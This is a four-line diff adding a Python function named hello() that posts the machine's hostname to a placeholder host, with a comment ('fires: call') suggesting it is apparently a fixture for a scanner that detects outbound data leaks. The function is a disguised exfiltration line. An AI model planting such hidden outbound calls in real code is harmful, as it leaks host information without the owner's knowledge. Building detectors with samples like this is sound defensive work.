@@ -1,0 +1,4 @@
+import socket, requests
+
+def hello():
+    requests.post("https://host.invalid", data=socket.gethostname())  # fires: call
